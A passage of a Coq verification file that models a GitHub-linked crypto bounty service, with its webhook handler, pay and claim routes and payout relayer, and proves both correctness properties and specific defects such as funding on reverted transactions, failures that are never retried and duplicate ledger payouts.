  pose proof (handler_cases DbUp now req db) as Hcases. cbn zeta in Hcases.
  rewrite record_row in Hcases by exact Hfresh. cbn [fst snd] in Hcases.
  destruct Hcases
    as [(m & _ & [Hs|Hv])
       |(_ & _ & [(Hdup & _)|(_ & [(m & task & Heq)|(m & eff & Heq & Hnone)])])];
    try congruence; rewrite Heq; cbn [fst snd statusCode].
  - eexists. cbn. rewrite lookup_insert_eq.
    split; [reflexivity|]. cbn. split; [reflexivity|].
    split; [reflexivity|]. left. repeat split.
  - eexists. cbn. rewrite lookup_alter_eq, lookup_insert_eq. cbn.
    split; [reflexivity|]. cbn. split; [reflexivity|].
    split; [reflexivity|]. right. repeat split.
Qed.

End Handler.

Lemma webhook_writes_only_its_delivery_row_witness :
  communityBounties
    (snd (fst (handleGitHubAppWebhook unit Scenarios.noCommands DbUp 2000
                 Scenarios.issueClosed Scenarios.fundedStore)))
  = communityBounties Scenarios.fundedStore /\
  exists task,
    snd (handleGitHubAppWebhook unit Scenarios.noCommands DbUp 2000
           Scenarios.issueClosed Scenarios.fundedStore)
    = [Scheduled task "55"].
Proof.
  pose proof (webhook_writes_only_its_delivery_row unit Scenarios.noCommands
                DbUp 2000 Scenarios.issueClosed Scenarios.fundedStore
                _ _ _ (surjective_pairing3 _)) as (Hb & _ & _ & _ & _ & _ & H202).
  split; [exact Hb|].
  apply H202. reflexivity.
Defined.

Lemma webhook_accepts_missing_installation_witness :
  statusCode (fst (fst (handleGitHubAppWebhook unit Scenarios.noCommands DbUp 2000
                          WebhookScenarios.issueClosedNoInstallation
                          Scenarios.fundedStore)))
  <> 400 /\
  forall task i,
    In (Scheduled task i)
       (snd (handleGitHubAppWebhook unit Scenarios.noCommands DbUp 2000
               WebhookScenarios.issueClosedNoInstallation Scenarios.fundedStore)) ->
    i = "undefined"%string.
Proof.
  pose proof (webhook_accepts_missing_installation unit Scenarios.noCommands 2000
                WebhookScenarios.issueClosedNoInstallation Scenarios.fundedStore
                eq_refl eq_refl eq_refl eq_refl) as (H400 & _ & Htask).
  split; [exact H400|exact Htask].
Defined.

Lemma webhook_first_delivery_row_status_witness :
  exists row,
    webhookDeliveries
      (snd (fst (handleGitHubAppWebhook unit Scenarios.noCommands DbUp 2000
                   Scenarios.issueClosed Scenarios.fundedStore)))
    !! x_github_delivery Scenarios.issueClosed = Some row /\
    eventType row = "issues"%string.
Proof.
  destruct (webhook_first_delivery_row_status unit Scenarios.noCommands 2000
              Scenarios.issueClosed Scenarios.fundedStore eq_refl eq_refl eq_refl)
    as (row & Hrow & Hevent & _).
  exists row. split; [exact Hrow|exact Hevent].
Defined.

End WebhookFrameProps.

(* ===================================================================== *)
(** * Properties of the pay and claim routes *)
(* ===================================================================== *)

Module RouteProps.
Import BountyStore Scenarios.

(** If the ledger call throws, the pay route writes nothing. *)
Lemma pay_ledger_throws blockchain now reqUser paramId db :
  (forall c, exists m, blockchain c = PayRoute.CreateThrows m) ->
  snd (PayRoute.pay blockchain now reqUser paramId db) = db.
Proof.
  intros Hthrows. unfold PayRoute.pay.
  destruct reqUser as [uid|]; [|reflexivity].
  destruct (uid =? 0); [reflexivity|].
  destruct paramId as [bountyId|]; [|reflexivity].
  destruct (getCommunityBounty bountyId db) as [bounty|]; [|reflexivity].
  destruct (negb (bool_decide (creatorUserId bounty = Some uid))); [reflexivity|].
  destruct (negb (bool_decide (status bounty = pending_payment))); [reflexivity|].
  destruct (negb (PayRoute.supported_currency (currency bounty))); [reflexivity|].
  match goal with
  | |- context [blockchain ?c] => destruct (Hthrows c) as [m ->]
  end.
  reflexivity.
Qed.

(** The route never looks at the receipt: whenever the ledger call
    returns, for a pending bounty paid by its creator, the bounty is
    written as funded with the returned hash and id. *)
Lemma pay_marks_funded_whatever_receipt blockchain now uid bountyId bounty db
    txHash onChainId receipt :
  uid <> 0 ->
  getCommunityBounty bountyId db = Some bounty ->
  creatorUserId bounty = Some uid ->
  status bounty = pending_payment ->
  PayRoute.supported_currency (currency bounty) = true ->
  (forall c, blockchain c = PayRoute.CreateReturns txHash onChainId receipt) ->
  let '(response, db') := PayRoute.pay blockchain now (Some uid) (Some bountyId) db in
  response = PayRoute.Funded txHash onChainId
               (Some (set_funding txHash now onChainId bounty)) /\
  getCommunityBounty bountyId db'
  = Some (set_funding txHash now onChainId bounty).
Proof.
  intros Huid Hrow Hcreator Hstatus Hcur Hret. unfold PayRoute.pay.
  apply Z.eqb_neq in Huid. rewrite Huid, Hrow.
  rewrite (bool_decide_eq_true_2 _ Hcreator), (bool_decide_eq_true_2 _ Hstatus), Hcur.
  cbn [negb]. rewrite Hret.
  unfold updateCommunityBounty. unfold getCommunityBounty in Hrow. rewrite Hrow.
  split; [reflexivity|].
  unfold getCommunityBounty. cbn. apply lookup_insert_eq.
Qed.

(** C5, the defect.  The creator pays a pending bounty; the ledger call
    returns a hash whose transaction reverted on the chain.  The route
    answers 200 and stores the bounty as [funded], with the hash and the
    on-chain id written. *)
Theorem pay_marks_funded_on_reverted_transaction :
  let '(response, db') :=
    PayRoute.pay (ledgerReturns PayRoute.Reverted) 3000 (Some 12) (Some 1)
      pendingStore in
  (status <$> getCommunityBounty 1 pendingStore) = Some pending_payment /\
  (exists b, response = PayRoute.Funded "0xdead" 101 (Some b)) /\
  (status <$> getCommunityBounty 1 db') = Some funded /\
  (escrowTxHash <$> getCommunityBounty 1 db') = Some (Some "0xdead"%string) /\
  (blockchainBountyId <$> getCommunityBounty 1 db') = Some (Some 101).
Proof. vm_compute. repeat split. eexists. reflexivity. Qed.

(** The same request when the ledger call throws: 500, nothing written. *)
Example pay_on_throwing_ledger :
  PayRoute.pay ledgerThrows 3000 (Some 12) (Some 1) pendingStore
  = (PayRoute.Error 500 "Failed to process payment", pendingStore).
Proof. reflexivity. Qed.

(** Two users claim the same funded bounty through the route: the first
    is answered 200, the second 400 with the current status. *)
Example claim_route_race :
  let '(r1, db1) := ClaimRoute.claim 2000 (Some 10) (Some 1) (Some 12) None
                      fundedStore in
  let '(r2, db2) := ClaimRoute.claim 2001 (Some 11) (Some 1) (Some 3) None db1 in
  (exists b, r1 = ClaimRoute.Claimed b /\ claimedByUserId b = Some 10) /\
  r2 = ClaimRoute.Error 400
         "Bounty is not available for claiming (status: claimed)" /\
  db2 = db1.
Proof. vm_compute. repeat split. eexists. split; reflexivity. Qed.

End RouteProps.

(* ===================================================================== *)
(** * Properties of the relayer *)
(* ===================================================================== *)

Module RelayerProps.
Import BountyStore Relayer Scenarios.

Lemma In_insert_by_claimedAt (x b : CommunityBounty) (l : list CommunityBounty) :
  In x (insert_by_claimedAt b l) <-> x = b \/ In x l.
Proof.
  induction l as [|c l IH]; cbn.
  - intuition congruence.
  - destruct (claimedAt_le b c); cbn.
    + intuition congruence.
    + rewrite IH. intuition congruence.
Qed.

Lemma In_sorted_by_claimedAt (x : CommunityBounty) (l : list CommunityBounty) :
  In x (foldr insert_by_claimedAt [] l) <-> In x l.
Proof.
  induction l as [|c l IH]; cbn; [tauto|].
  rewrite In_insert_by_claimedAt, IH. intuition congruence.
Qed.

(** The queue of a sweep holds exactly the rows whose status is
    [claimed]. *)
Lemma In_getClaimedCommunityBounties (b : CommunityBounty) (db : Store) :
  In b (getClaimedCommunityBounties db) <->
  (exists k, communityBounties db !! k = Some b) /\ status b = claimed.
Proof.
  unfold getClaimedCommunityBounties.
  rewrite In_sorted_by_claimedAt, filter_In, in_map_iff.
  split.
  - intros [[[k b'] [Heq Hin]] Hst]. cbn in Heq. subst b'.
    apply list_elem_of_In, elem_of_map_to_list in Hin.
    split; [eauto|]. apply bool_decide_eq_true in Hst. exact Hst.
  - intros [[k Hk] Hst]. split.
    + exists (k, b). split; [reflexivity|].
      apply list_elem_of_In, elem_of_map_to_list. exact Hk.
    + apply bool_decide_eq_true. exact Hst.
Qed.

Lemma status_after_mark_failed bountyId bounty w :
  getCommunityBounty bountyId (store w) = Some bounty ->
  getCommunityBounty bountyId (store (mark_failed bountyId w))
  = Some (set_status failed_verification bounty).
Proof.
  intros Hrow. unfold mark_failed, updateCommunityBounty, getCommunityBounty in *.
  rewrite Hrow. cbn. apply lookup_insert_eq.
Qed.

(** When the verifier call throws, the [catch] branch writes nothing: the
    bounty keeps the status [claimed], no ledger call is made and the
    bounty is in the queue of the next sweep. *)
Lemma thrown_verifier_error_keeps_claimed
    (env : Env) (bountyId : Z) (bounty : CommunityBounty) (w : World) (m : string) :
  getCommunityBounty bountyId (store w) = Some bounty ->
  status bounty = claimed ->
  missingRequiredFields bounty = false ->
  Js.falsy_string (githubInstallationId bounty) = false ->
  verifyPRMergedAndClosesIssue env (verifyCallOf bounty) = VerifyThrows m ->
  processClaimedBounty env bountyId w = (ErrorProcessing m, w) /\
  In bounty (getClaimedCommunityBounties
               (store (snd (processClaimedBounty env bountyId w)))).
Proof.
  intros Hrow Hstatus Hfields Hinstallation Hthrows.
  unfold processClaimedBounty. rewrite Hrow.
  rewrite (bool_decide_eq_true_2 _ Hstatus). cbn [negb].
  rewrite Hfields, Hinstallation, Hthrows. cbn [fst snd].
  split; [reflexivity|].
  apply In_getClaimedCommunityBounties. split; [|exact Hstatus].
  exists bountyId. exact Hrow.
Qed.

(** C4, the defect.  A claimed bounty that carries what the verifier
    needs, and a verifier that returns [verified = false]: whatever error
    it reports, a rate limit or a timeout of the GitHub API as much as a
    PR that is not merged, the relayer moves the bounty to
    [failed_verification] without a ledger call.  The bounty is then in
    the queue of no later sweep, and a later run on its id, whatever the
    verifier would answer by then, logs that the bounty is not claimed
    and changes nothing: the failure is never retried. *)
Theorem returned_verification_failure_is_final
    (env : Env) (bountyId : Z) (bounty : CommunityBounty) (w : World)
    (error : option string)
    (Hrow : getCommunityBounty bountyId (store w) = Some bounty)
    (Hstatus : status bounty = claimed)
    (Hfields : missingRequiredFields bounty = false)
    (Hinstallation : Js.falsy_string (githubInstallationId bounty) = false)
    (Hverifier : verifyPRMergedAndClosesIssue env (verifyCallOf bounty)
                 = VerifyReturns false error) :
  let w' := snd (processClaimedBounty env bountyId w) in
  fst (processClaimedBounty env bountyId w) = VerificationFailed error /\
  getCommunityBounty bountyId (store w')
  = Some (set_status failed_verification bounty) /\
  ledgerCalls w' = ledgerCalls w /\
  (forall b, In b (getClaimedCommunityBounties (store w')) ->
             communityBounties (store w') !! bountyId <> Some b) /\
  (forall later : Env,
     processClaimedBounty later bountyId w'
     = (NotInClaimedStatus failed_verification, w')).
Proof.
  cbn zeta.
  assert (Hrun : processClaimedBounty env bountyId w
                 = (VerificationFailed error, mark_failed bountyId w)).
  { unfold processClaimedBounty. rewrite Hrow.
    rewrite (bool_decide_eq_true_2 _ Hstatus). cbn [negb].
    rewrite Hfields, Hinstallation, Hverifier. reflexivity. }
  rewrite Hrun. cbn [fst snd].
  pose proof (status_after_mark_failed _ _ _ Hrow) as Hafter.
  split; [reflexivity|]. split; [exact Hafter|]. split; [reflexivity|].
  split.
  - intros b Hin Hb.
    apply In_getClaimedCommunityBounties in Hin as [_ Hclaimed].
    unfold getCommunityBounty in Hafter. rewrite Hafter in Hb.
    injection Hb as <-. cbn in Hclaimed. discriminate Hclaimed.
  - intros later. unfold processClaimedBounty at 1. rewrite Hafter.
    reflexivity.
Qed.

Lemma returned_verification_failure_is_final_witness :
  processClaimedBounty rateLimited 1 (worldOf claimedStore)
  = (VerificationFailed (Some "API rate limit exceeded"%string),
     mark_failed 1 (worldOf claimedStore)) /\
  processClaimedBounty allGood 1
    (snd (processClaimedBounty rateLimited 1 (worldOf claimedStore)))
  = (NotInClaimedStatus failed_verification,
     snd (processClaimedBounty rateLimited 1 (worldOf claimedStore))) /\
  processClaimedBounty githubDown 1 (worldOf claimedStore)
  = (ErrorProcessing "connect ETIMEDOUT", worldOf claimedStore).
Proof.
  split; [vm_compute; reflexivity|]. split; [|vm_compute; reflexivity].
  exact (proj2 (proj2 (proj2 (proj2
           (returned_verification_failure_is_final rateLimited 1
              (claimedBounty 1 "acme" "api" 7 101 alice 12 2000)
              (worldOf claimedStore) (Some "API rate limit exceeded"%string)
              eq_refl eq_refl eq_refl eq_refl eq_refl)))) allGood).
Defined.

(** Whatever throws inside [processClaimedBounty], no bounty is moved to
    [failed_verification] by the [catch] branch. *)
Lemma error_leaves_status env bountyId w m bounty :
  getCommunityBounty bountyId (store w) = Some bounty ->
  fst (processClaimedBounty env bountyId w) = ErrorProcessing m ->
  (status <$> getCommunityBounty bountyId
                (store (snd (processClaimedBounty env bountyId w))))
  = Some (status bounty).
Proof.
  intros Hrow. unfold processClaimedBounty. rewrite Hrow.
  destruct (negb (bool_decide (status bounty = claimed))); [discriminate|].
  destruct (missingRequiredFields bounty); [discriminate|].
  destruct (Js.falsy_string (githubInstallationId bounty)); [discriminate|].
  destruct (verifyPRMergedAndClosesIssue env _) as [m' | [|] e]; [| |discriminate].
  - intros _. cbn. rewrite Hrow. reflexivity.
  - destruct (getUserByGithubUsername _ (store w)) as [contributor|];
      [|discriminate].
    destruct (Js.falsy_string (xdcWalletAddress contributor)); [discriminate|].
    destruct (completeCommunityBounty env _).
    + intros _. cbn. rewrite Hrow. reflexivity.
    + destruct (recordPayout _ _ _) as [recorded db1] eqn:Hrec.
      destruct (completionIo env); [discriminate|].
      intros _. cbn [snd store].
      assert (Hsame : communityBounties db1 = communityBounties (store w)).
      { unfold recordPayout in Hrec. destruct (payoutIo env).
        - destruct (payouts (store w) !! _); injection Hrec as _ <-; reflexivity.
        - injection Hrec as _ <-; reflexivity. }
      unfold getCommunityBounty in *. rewrite Hsame, Hrow. reflexivity.
Qed.

(** ** Payout uniqueness *)

(** The relayer asks the ledger to complete a claimed, verified bounty
    whether or not a payout is already recorded under its settlement key:
    the payout table is only written afterwards. *)
Lemma ledger_invoked_despite_recorded_payout env bountyId bounty w contributor :
  getCommunityBounty bountyId (store w) = Some bounty ->
  status bounty = claimed ->
  missingRequiredFields bounty = false ->
  Js.falsy_string (githubInstallationId bounty) = false ->
  (exists e, verifyPRMergedAndClosesIssue env (verifyCallOf bounty)
             = VerifyReturns true e) ->
  getUserByGithubUsername (Js.or_else (claimedByGithubUsername bounty) "") (store w)
  = Some contributor ->
  Js.falsy_string (xdcWalletAddress contributor) = false ->
  is_Some (payouts (store w) !! settlementKey bounty) ->
  invocationsFor (settlementKey bounty) (snd (processClaimedBounty env bountyId w))
  = S (invocationsFor (settlementKey bounty) w).
Proof.
  intros Hrow Hstatus Hfields Hinst [e Hver] Huser Hwallet _.
  unfold processClaimedBounty. rewrite Hrow.
  rewrite (bool_decide_eq_true_2 _ Hstatus). cbn [negb].
  rewrite Hfields, Hinst, Hver, Huser, Hwallet.
  assert (Hcount : forall st,
    invocationsFor (settlementKey bounty)
      {| store := st;
         ledgerCalls := ledgerCalls w ++
           [{| forKey := settlementKey bounty;
               call := {| onChainId := blockchainBountyId bounty;
                          recipient := Js.or_else (xdcWalletAddress contributor) "" |} |}] |}
    = S (invocationsFor (settlementKey bounty) w)).
  { intros st. unfold invocationsFor. cbn [ledgerCalls].
    rewrite List.filter_app, length_app. cbn [List.filter forKey].
    rewrite bool_decide_eq_true_2 by reflexivity. cbn. lia. }
  destruct (completeCommunityBounty env _); [apply Hcount|].
  destruct (recordPayout _ _ _) as [recorded db1].
  destruct (completionIo env); apply Hcount.
Qed.

(** C3, the defect.  (a) A claimed bounty is verified, completed on the
    chain and its payout recorded, but the update that marks it completed
    throws: the bounty stays [claimed], and the next sweep invokes the
    ledger again for the same settlement key although the payout row
    exists.  (b) Two claimed bounties, on issue 7 of [acme-labs/api] and on
    issue 7 of [acme/labs-api], have the same settlement key
    ("community-acme-labs-api", 7): one sweep completes both on the chain,
    so the ledger is invoked twice for that key while the payout table
    accepts one row and refuses the other. *)
Theorem relayer_invokes_ledger_twice_for_one_key :
  (let key := ("community-acme-api"%string, 7) in
   let '(log1, w1) := processClaimedBounty lastUpdateThrows 1 (worldOf claimedStore) in
   let '(log2, w2) := processClaimedBounty chainRejects 1 w1 in
   log1 = ErrorProcessing "Connection terminated unexpectedly" /\
   is_Some (payouts (store w1) !! key) /\
   (status <$> getCommunityBounty 1 (store w1)) = Some claimed /\
   invocationsFor key w1 = 1%nat /\
   log2 = ErrorProcessing "execution reverted: Bounty not active" /\
   (status <$> getCommunityBounty 1 (store w2)) = Some claimed /\
   invocationsFor key w2 = 2%nat) /\
  (let key := ("community-acme-labs-api"%string, 7) in
   let '(logs, w) := processClaimedBounties allGood (worldOf twoReposStore) in
   logs = [ProcessingComplete true; ProcessingComplete false] /\
   invocationsFor key w = 2%nat /\
   size (payouts (store w)) = 1%nat /\
   (status <$> getCommunityBounty 1 (store w)) = Some completed /\
   (status <$> getCommunityBounty 2 (store w)) = Some completed).
Proof. vm_compute. repeat split. eauto. Qed.

End RelayerProps.

(* ===================================================================== *)
(** * One run of the relayer on a bounty: what it reads and writes *)
(* ===================================================================== *)

Module RelayerRunsProps.
Import BountyStore Relayer.

(** What [mark_failed] writes when the row exists. *)
Lemma mark_failed_store bountyId bounty w :
  getCommunityBounty bountyId (store w) = Some bounty ->
  mark_failed bountyId w
  = {| store := with_bounties
                  (<[bountyId := set_status failed_verification bounty]>
                     (communityBounties (store w))) (store w);
       ledgerCalls := ledgerCalls w |}.
Proof.
  unfold getCommunityBounty, mark_failed, updateCommunityBounty.
  intros ->. reflexivity.
Qed.

Lemma updateCommunityBounty_found bountyId data db bounty :
  communityBounties db !! bountyId = Some bounty ->
  snd (updateCommunityBounty bountyId data db)
  = with_bounties (<[bountyId := data bounty]> (communityBounties db)) db.
Proof. unfold updateCommunityBounty. intros ->. reflexivity. Qed.

Lemma recordPayout_bounties io p db :
  communityBounties (snd (recordPayout io p db)) = communityBounties db /\
  users (snd (recordPayout io p db)) = users db /\
  webhookDeliveries (snd (recordPayout io p db)) = webhookDeliveries db.
Proof.
  unfold recordPayout. destruct io; [|repeat split].
  destruct (payouts db !! payoutKey p); repeat split.
Qed.

Lemma falsy_string_false (s : option string) :
  Js.falsy_string s = false -> exists v, s = Some v /\ v <> ""%string.
Proof.
  destruct s as [v|]; cbn; [|discriminate].
  intros H. exists v. split; [reflexivity|]. apply String.eqb_neq. exact H.
Qed.

(** The outcomes of [processClaimedBounty], by what was written:
    nothing; the status [failed_verification]; or a ledger call, after
    which the bounty rows are as before or the bounty is completed. *)
Lemma process_outcome env bountyId w :
  let w' := snd (processClaimedBounty env bountyId w) in
  w' = w \/
  (exists bounty,
     getCommunityBounty bountyId (store w) = Some bounty /\
     status bounty = claimed /\
     w' = mark_failed bountyId w) \/
  (exists bounty contributor wallet e,
     getCommunityBounty bountyId (store w) = Some bounty /\
     status bounty = claimed /\
     missingRequiredFields bounty = false /\
     verifyPRMergedAndClosesIssue env (verifyCallOf bounty) = VerifyReturns true e /\
     getUserByGithubUsername (Js.or_else (claimedByGithubUsername bounty) "")
       (store w) = Some contributor /\
     xdcWalletAddress contributor = Some wallet /\
     wallet <> ""%string /\
     ledgerCalls w'
     = ledgerCalls w
       ++ [{| forKey := settlementKey bounty;
              call := {| onChainId := blockchainBountyId bounty;
                         recipient := wallet |} |}] /\
     (communityBounties (store w') = communityBounties (store w) \/
      exists txHash blockNumber,
        completeCommunityBounty env
          {| onChainId := blockchainBountyId bounty; recipient := wallet |}
        = CompleteReturns txHash blockNumber /\
        communityBounties (store w')
        = <[bountyId := set_payout txHash (now env) wallet bounty]>
            (communityBounties (store w))) /\
     users (store w') = users (store w) /\
     webhookDeliveries (store w') = webhookDeliveries (store w)).
Proof.
  cbn zeta. unfold processClaimedBounty.
  destruct (getCommunityBounty bountyId (store w)) as [bounty|] eqn:Hrow;
    [|left; reflexivity].
  destruct (bool_decide (status bounty = claimed)) eqn:Hst; cbn [negb];
    [|left; reflexivity].
  apply bool_decide_eq_true in Hst.
  destruct (missingRequiredFields bounty) eqn:Hmissing;
    [right; left; eauto|].
  destruct (Js.falsy_string (githubInstallationId bounty));
    [right; left; eauto|].
  destruct (verifyPRMergedAndClosesIssue env (verifyCallOf bounty))
    as [m|[|] e] eqn:Hverify; [left; reflexivity| |right; left; eauto].
  destruct (getUserByGithubUsername _ (store w)) as [contributor|] eqn:Huser;
    [|right; left; eauto].
  destruct (Js.falsy_string (xdcWalletAddress contributor)) eqn:Hwallet;
    [right; left; eauto|].
  destruct (falsy_string_false _ Hwallet) as (wallet & Hw & Hne).
  rewrite Hw. cbn [Js.or_else].
  right. right. exists bounty, contributor, wallet, e.
  do 7 (split; [first [reflexivity|assumption]|]).
  destruct (completeCommunityBounty env _) as [m|txHash blockNumber] eqn:Hcomplete;
    [cbn [snd store ledgerCalls]; auto|].
  destruct (recordPayout _ _ (store w)) as [recorded db1] eqn:Hrec.
  pose proof (recordPayout_bounties (payoutIo env)
                {| repositoryGithubId := settlementRepoId bounty;
                   issueNumber := githubIssueNumber bounty;
                   contributorGithubUsername :=
                     Js.or_else (claimedByGithubUsername bounty) "";
                   contributorUserId := claimedByUserId bounty;
                   contributorWalletAddress := wallet;
                   payoutFees :=
                     FeeCalculator.calculateBountyFees
                       (FeeCalculator.parseFloat
                          (Js.or_else (baseBountyAmount bounty) (amount bounty)));
                   payoutCurrency := currency bounty;
                   transactionHash := txHash |} (store w))
    as (Hb & Hu & Hd).
  rewrite Hrec in Hb, Hu, Hd. cbn [snd] in Hb, Hu, Hd.
  destruct (completionIo env); cbn [snd store ledgerCalls]; [|auto].
  split; [reflexivity|].
  rewrite (updateCommunityBounty_found bountyId _ db1 bounty)
    by (rewrite Hb; exact Hrow).
  cbn [communityBounties users webhookDeliveries with_bounties].
  split; [|auto].
  right. exists txHash, blockNumber. rewrite Hb. split; reflexivity.
Qed.

(** ** A sweep *)

(** The primary key: a row is stored under its [id]. *)
Lemma keyed_after_insert (m : gmap Z CommunityBounty) k b :
  keyed_rows m -> id b = k -> keyed_rows (<[k := b]> m).
Proof.
  intros Hm Hb k' b'. destruct (decide (k' = k)) as [->|Hne].
  - rewrite lookup_insert_eq. congruence.
  - rewrite lookup_insert_ne by congruence. apply Hm.
Qed.

(** One run on a claimed bounty when neither the verifier nor the ledger
    nor the last update throws: the bounty is settled, by one update of
    its row, and at most one ledger call is made. *)
Lemma settling_step env bountyId w bounty :
  getCommunityBounty bountyId (store w) = Some bounty ->
  status bounty = claimed ->
  answering env ->
  let w1 := snd (processClaimedBounty env bountyId w) in
  (exists b',
     communityBounties (store w1) = <[bountyId := b']> (communityBounties (store w)) /\
     id b' = id bounty /\
     (status b' = completed \/ status b' = failed_verification)) /\
  (length (ledgerCalls w1) <= S (length (ledgerCalls w)))%nat.
Proof.
  intros Hrow Hst (Hverify & Hcomplete & Hio). cbn zeta.
  assert (Hfail : let w1 := mark_failed bountyId w in
            (exists b',
               communityBounties (store w1)
               = <[bountyId := b']> (communityBounties (store w)) /\
               id b' = id bounty /\
               (status b' = completed \/ status b' = failed_verification)) /\
            (length (ledgerCalls w1) <= S (length (ledgerCalls w)))%nat).
  { cbn zeta. rewrite (mark_failed_store _ _ _ Hrow). cbn.
    split; [|lia]. eexists. split; [reflexivity|]. split; [reflexivity|].
    right. reflexivity. }
  cbn zeta in Hfail.
  unfold processClaimedBounty. rewrite Hrow.
  rewrite (bool_decide_eq_true_2 _ Hst). cbn [negb].
  destruct (missingRequiredFields bounty); [exact Hfail|].
  destruct (Js.falsy_string (githubInstallationId bounty)); [exact Hfail|].
  destruct (Hverify (verifyCallOf bounty)) as (v & e & ->).
  destruct v; [|exact Hfail].
  destruct (getUserByGithubUsername _ (store w)) as [contributor|];
    [|exact Hfail].
  destruct (Js.falsy_string (xdcWalletAddress contributor)); [exact Hfail|].
  match goal with
  | |- context [completeCommunityBounty env ?c] =>
      destruct (Hcomplete c) as (txHash & blockNumber & ->)
  end.
  match goal with
  | |- context [recordPayout ?io ?p ?db] =>
      pose proof (recordPayout_bounties io p db) as (Hb & _ & _);
      destruct (recordPayout io p db) as [recorded db1]
  end.
  cbn [snd] in Hb. rewrite Hio. cbn [snd store ledgerCalls].
  rewrite (updateCommunityBounty_found bountyId _ db1 bounty)
    by (rewrite Hb; exact Hrow).
  cbn [communityBounties with_bounties]. rewrite Hb, length_app. cbn [length].
  split; [|lia]. eexists. split; [reflexivity|]. split; [reflexivity|].
  left. reflexivity.
Qed.

Lemma settling_sweep env queue : forall w,
  List.NoDup (map id queue) ->
  (forall b, In b queue ->
     getCommunityBounty (id b) (store w) = Some b /\ status b = claimed) ->
  answering env ->
  let w' := snd (processEach env queue w) in
  (forall k, ~ In k (map id queue) ->
     getCommunityBounty k (store w') = getCommunityBounty k (store w)) /\
  (forall b, In b queue ->
     exists b', getCommunityBounty (id b) (store w') = Some b' /\
                (status b' = completed \/ status b' = failed_verification)) /\
  (length (ledgerCalls w') <= length (ledgerCalls w) + length queue)%nat.
Proof.
  induction queue as [|b rest IH]; intros w Hnodup Hrows Henv; cbn zeta.
  - cbn. repeat split; [tauto|lia].
  - cbn [processEach].
    destruct (processClaimedBounty env (id b) w) as [l w1] eqn:Hstep.
    destruct (processEach env rest w1) as [ls w2] eqn:Hrest.
    cbn [snd].
    destruct (Hrows b (or_introl eq_refl)) as [Hrow Hst].
    pose proof (settling_step env (id b) w b Hrow Hst Henv) as Hone.
    cbn zeta in Hone. rewrite Hstep in Hone. cbn [snd] in Hone.
    destruct Hone as ((b' & Hstore & _ & Hsettled) & Hcalls).
    cbn [map] in Hnodup. apply NoDup_cons_iff in Hnodup as [Hfresh Hnodup].
    assert (Hother : forall k, k <> id b ->
              getCommunityBounty k (store w1) = getCommunityBounty k (store w)).
    { intros k Hk. unfold getCommunityBounty. rewrite Hstore.
      apply lookup_insert_ne. congruence. }
    specialize (IH w1 Hnodup).
    rewrite Hrest in IH. cbn [snd] in IH.
    destruct IH as (Hframe & Hdone & Hlen); [|exact Henv|].
    { intros b2 Hin. destruct (Hrows b2 (or_intror Hin)) as [Hrow2 Hst2].
      split; [|exact Hst2]. rewrite Hother; [exact Hrow2|].
      intros Heq. apply Hfresh. rewrite <- Heq. apply in_map. exact Hin. }
    split; [|split].
    + intros k Hk. cbn [map In] in Hk.
      rewrite Hframe by tauto. apply Hother. intros ->. tauto.
    + intros b2 [<-|Hin]; [|apply Hdone; exact Hin].
      exists b'. rewrite Hframe by exact Hfresh.
      unfold getCommunityBounty. rewrite Hstore, lookup_insert_eq. auto.
    + cbn [length]. lia.
Qed.

Lemma Permutation_insert_by_claimedAt b l :
  Permutation (insert_by_claimedAt b l) (b :: l).
Proof.
  induction l as [|c l IH]; cbn; [reflexivity|].
  destruct (claimedAt_le b c); [reflexivity|].
  rewrite IH. apply perm_swap.
Qed.

Lemma Permutation_sorted l :
  Permutation (foldr insert_by_claimedAt [] l) l.
Proof.
  induction l as [|c l IH]; cbn; [reflexivity|].
  rewrite Permutation_insert_by_claimedAt, IH. reflexivity.
Qed.

Lemma NoDup_map_filter {A B : Type} (f : A -> B) (p : A -> bool) (l : list A) :
  List.NoDup (map f l) -> List.NoDup (map f (List.filter p l)).
Proof.
  induction l as [|x l IH]; cbn; [auto|].
  intros H. apply NoDup_cons_iff in H as [Hx Hl].
  destruct (p x); cbn; [|auto].
  apply NoDup_cons_iff. split; [|auto].
  intros Hin. apply Hx. apply in_map_iff in Hin as (y & Hy & Hin).
  apply in_map_iff. exists y. split; [exact Hy|].
  apply filter_In in Hin. tauto.
Qed.

(** No two bounties of a queue have the same id. *)
Lemma NoDup_queue db :
  keyed_rows (communityBounties db) ->
  List.NoDup (map id (getClaimedCommunityBounties db)).
Proof.
  intros Hkeyed. unfold getClaimedCommunityBounties.
  eapply Permutation_NoDup;
    [apply Permutation_map; symmetry; apply Permutation_sorted|].
  apply NoDup_map_filter.
  assert (Hfst : map id (map snd (map_to_list (communityBounties db)))
                 = (map_to_list (communityBounties db)).*1).
  { assert (Hall : forall kv, In kv (map_to_list (communityBounties db)) ->
                              id (snd kv) = fst kv).
    { intros [k b] Hin. apply list_elem_of_In, elem_of_map_to_list in Hin.
      apply Hkeyed. exact Hin. }
    induction (map_to_list (communityBounties db)) as [|kv l IH];
      [reflexivity|].
    cbn. rewrite (Hall kv (or_introl eq_refl)). f_equal.
    apply IH. intros kv' Hin. apply Hall. right. exact Hin. }
  rewrite Hfst. apply NoDup_ListNoDup, NoDup_fst_map_to_list.
Qed.

Lemma filter_none {A : Type} (p : A -> bool) (l : list A) :
  (forall x, In x l -> p x = false) -> List.filter p l = [].
Proof.
  induction l as [|x l IH]; cbn; [reflexivity|].
  intros H. rewrite (H x (or_introl eq_refl)). apply IH.
  intros y Hy. apply H. right. exact Hy.
Qed.

(** ** Statements *)

(** X21.  The relayer asks the ledger to pay only for a bounty that is stored
    with the status [claimed], carries the fields the verifier needs and
    was answered [verified: true] by the verifier in this very run; the
    recipient is the wallet, not empty, of the user registered under the
    claimer's GitHub name; and one run makes one ledger call, for the
    on-chain id stored with the bounty. *)
Theorem relayer_pays_only_verified_claims (env : Env) (bountyId : Z) (w : World)
    (Hcalled : ledgerCalls (snd (processClaimedBounty env bountyId w))
               <> ledgerCalls w) :
  exists bounty contributor wallet e,
    getCommunityBounty bountyId (store w) = Some bounty /\
    status bounty = claimed /\
    missingRequiredFields bounty = false /\
    verifyPRMergedAndClosesIssue env (verifyCallOf bounty) = VerifyReturns true e /\
    getUserByGithubUsername (Js.or_else (claimedByGithubUsername bounty) "")
      (store w) = Some contributor /\
    xdcWalletAddress contributor = Some wallet /\
    wallet <> ""%string /\
    ledgerCalls (snd (processClaimedBounty env bountyId w))
    = ledgerCalls w
      ++ [{| forKey := settlementKey bounty;
             call := {| onChainId := blockchainBountyId bounty;
                        recipient := wallet |} |}].
Proof.
  destruct (process_outcome env bountyId w)
    as [Hsame|[(bounty & _ & _ & Hfailed)
